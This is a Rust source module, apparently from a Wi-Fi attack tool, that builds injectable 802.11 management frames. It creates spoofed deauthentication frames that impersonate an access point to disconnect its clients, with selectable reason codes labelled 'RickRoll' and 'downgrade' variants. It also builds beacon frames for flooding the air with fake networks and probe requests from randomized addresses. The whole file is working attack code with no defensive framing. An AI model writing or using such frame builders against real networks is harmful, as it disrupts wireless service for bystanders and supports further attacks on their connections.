//! Management Frame Construction
//!
//! Pure builders for the injected frame types: deauthentication, beacon
//! and probe request. Every builder writes into a caller-provided buffer
//! through a bounds-checked cursor and returns the written length.

use rand::Rng;
use thiserror::Error;

use super::mac::MacAddr;

/// Exact length of a deauthentication frame
pub const DEAUTH_FRAME_LEN: usize = 26;

/// Maximum SSID length; longer names are truncated, never rejected
pub const MAX_SSID_LEN: usize = 32;

/// Class 3 frame received from nonassociated station (default deauth reason)
pub const REASON_CLASS3_FRAME: u16 = 7;
/// IEEE 802.1X authentication failed (RickRoll variant)
pub const REASON_8021X_AUTH_FAILED: u16 = 23;
/// Previous authentication no longer valid (downgrade variant)
pub const REASON_PREV_AUTH_EXPIRED: u16 = 2;

const SUPPORTED_RATES_IE: [u8; 10] = [0x01, 0x08, 0x82, 0x84, 0x8b, 0x96, 0x24, 0x30, 0x48, 0x6c];
const PROBE_RATES_IE: [u8; 6] = [0x01, 0x04, 0x02, 0x04, 0x0b, 0x16];

/// Frame construction errors
#[derive(Debug, Error)]
pub enum FrameError {
    #[error("output buffer too small: need {needed} bytes, have {available}")]
    BufferTooSmall { needed: usize, available: usize },
}

/// Bounds-checked write cursor over a caller-provided buffer
struct FrameWriter<'a> {
    buf: &'a mut [u8],
    pos: usize,
}

impl<'a> FrameWriter<'a> {
    fn new(buf: &'a mut [u8]) -> Self {
        Self { buf, pos: 0 }
    }

    fn put(&mut self, bytes: &[u8]) -> Result<(), FrameError> {
        let end = self.pos + bytes.len();
        if end > self.buf.len() {
            return Err(FrameError::BufferTooSmall {
                needed: end,
                available: self.buf.len(),
            });
        }
        self.buf[self.pos..end].copy_from_slice(bytes);
        self.pos = end;
        Ok(())
    }

    fn put_u16_le(&mut self, val: u16) -> Result<(), FrameError> {
        self.put(&val.to_le_bytes())
    }

    fn finish(self) -> usize {
        self.pos
    }
}

fn truncate_ssid(ssid: &str) -> &[u8] {
    let bytes = ssid.as_bytes();
    &bytes[..bytes.len().min(MAX_SSID_LEN)]
}

/// Build a deauthentication frame.
///
/// Layout is fixed at 26 bytes: frame control, duration, destination,
/// source and BSSID (both the target), sequence control, reason code.
/// `destination` is broadcast or a specific client address.
pub fn build_deauth(
    buf: &mut [u8],
    bssid: MacAddr,
    destination: MacAddr,
    reason: u16,
) -> Result<usize, FrameError> {
    let mut w = FrameWriter::new(buf);
    w.put(&[0xc0, 0x00])?; // frame control: deauthentication
    w.put(&[0x00, 0x00])?; // duration
    w.put(destination.as_bytes())?;
    w.put(bssid.as_bytes())?; // source
    w.put(bssid.as_bytes())?; // BSSID
    w.put(&[0x00, 0x00])?; // sequence control
    w.put_u16_le(reason)?;
    Ok(w.finish())
}

/// Build a beacon frame announcing `ssid` on `channel`.
///
/// The source/BSSID pair is randomized per frame with a fixed `DE:AD`
/// prefix so flooded networks are distinguishable on the air.
pub fn build_beacon<R: Rng>(
    buf: &mut [u8],
    ssid: &str,
    channel: u8,
    rng: &mut R,
) -> Result<usize, FrameError> {
    let source = MacAddr::random_with_prefix([0xde, 0xad], rng);
    let ssid = truncate_ssid(ssid);

    let mut w = FrameWriter::new(buf);
    w.put(&[0x80, 0x00])?; // frame control: beacon
    w.put(&[0x00, 0x00])?; // duration
    w.put(MacAddr::BROADCAST.as_bytes())?;
    w.put(source.as_bytes())?;
    w.put(source.as_bytes())?; // BSSID = source
    w.put(&[0x00, 0x00])?; // sequence control
    w.put(&[0u8; 8])?; // timestamp
    w.put(&[0x64, 0x00])?; // beacon interval: 100 TU
    w.put(&[0x01, 0x00])?; // capability: ESS
    w.put(&[0x00, ssid.len() as u8])?; // SSID IE
    w.put(ssid)?;
    w.put(&SUPPORTED_RATES_IE)?;
    w.put(&[0x03, 0x01, channel])?; // DS parameter set
    Ok(w.finish())
}

/// Build a probe request for `ssid` from a randomized local source address.
pub fn build_probe_request<R: Rng>(
    buf: &mut [u8],
    ssid: &str,
    rng: &mut R,
) -> Result<usize, FrameError> {
    let source = MacAddr::random_local(rng);
    let ssid = truncate_ssid(ssid);

    let mut w = FrameWriter::new(buf);
    w.put(&[0x40, 0x00])?; // frame control: probe request
    w.put(&[0x00, 0x00])?; // duration
    w.put(MacAddr::BROADCAST.as_bytes())?;
    w.put(source.as_bytes())?;
    w.put(MacAddr::BROADCAST.as_bytes())?; // BSSID
    w.put(&[0x00, 0x00])?; // sequence control
    w.put(&[0x00, ssid.len() as u8])?; // SSID IE
    w.put(ssid)?;
    w.put(&PROBE_RATES_IE)?;
    Ok(w.finish())
}
